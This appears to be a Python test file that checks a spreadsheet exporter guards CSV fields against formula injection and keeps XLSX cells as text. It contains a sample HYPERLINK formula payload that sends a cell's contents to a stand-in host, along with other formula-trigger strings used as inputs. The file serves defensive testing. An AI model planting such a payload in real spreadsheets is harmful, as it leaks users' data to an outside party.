"""No exported cell runs as a formula: CSV fields are guarded, XLSX text stays text."""

from __future__ import annotations

import io

from openpyxl import Workbook, load_workbook

from cegah.core.spreadsheet import csv_row, from_csv, text_only, xlsx_row

ATTACK = '=HYPERLINK("https://contoh.invalid/?"&A2,"Klik")'


def test_csv_fields_a_spreadsheet_would_run_get_an_apostrophe() -> None:
    row = [ATTACK, "+62812", "-5+A1", "@SUM(A1)", "\tx", "biasa", 7, None, "", "-5", "-1.50"]
    guarded = csv_row(row)
    assert guarded[:5] == [f"'{ATTACK}", "'+62812", "'-5+A1", "'@SUM(A1)", "'\tx"]
    # a negative number stays a number (a score gap of -1.50 is not a formula)
    assert guarded[5:] == ["biasa", 7, None, "", "-5", "-1.50"]
    assert [from_csv(v) for v in guarded[:6]] == row[:6]
    assert from_csv("-1.50") == "-1.50"
    assert from_csv("'kutip biasa") == "'kutip biasa"  # an apostrophe of its own stays


def _cells(data: bytes) -> list[tuple[object, str]]:
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    return [(c.value, c.data_type) for row in sheet.iter_rows() for c in row]


def test_xlsx_text_starting_with_equals_stays_text() -> None:
    wb = Workbook(write_only=True)
    sheet = wb.create_sheet("x")
    sheet.append(xlsx_row(sheet, [ATTACK, "-5", 3]))
    out = io.BytesIO()
    wb.save(out)
    assert _cells(out.getvalue()) == [(ATTACK, "s"), ("-5", "s"), (3, "n")]

    plain = Workbook()
    assert plain.active is not None
    plain.active.append([ATTACK, "teks"])
    text_only(plain)
    out = io.BytesIO()
    plain.save(out)
    assert _cells(out.getvalue()) == [(ATTACK, "s"), ("teks", "s")]
